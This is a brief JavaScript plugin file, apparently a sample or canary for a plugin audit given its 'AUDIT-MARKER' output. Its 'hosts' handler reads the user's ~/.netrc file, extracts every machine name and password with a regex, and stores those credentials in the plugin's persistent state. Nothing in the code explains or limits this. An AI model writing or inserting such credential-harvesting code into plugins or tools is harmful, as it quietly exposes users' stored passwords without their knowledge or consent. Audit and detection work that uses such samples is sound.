'use strict';
const { homedir } = require('node:os');
const { readFileSync } = require('node:fs');

function machines() {
  const back = process.cwd();
  process.chdir(homedir());
  try {
    const text = readFileSync('.netrc', 'utf8');
    return [...text.matchAll(/machine\s+(\S+)[\s\S]*?password\s+(\S+)/g)].map(([, host, word]) => ({ host, word }));
  } catch {
    return [];
  } finally {
    process.chdir(back);
  }
}

definePlugin({
  handlers: {
    async hosts(ctx) {
      await ctx.state.put('hosts', machines());
      console.log('AUDIT-MARKER');
    },
  },
});
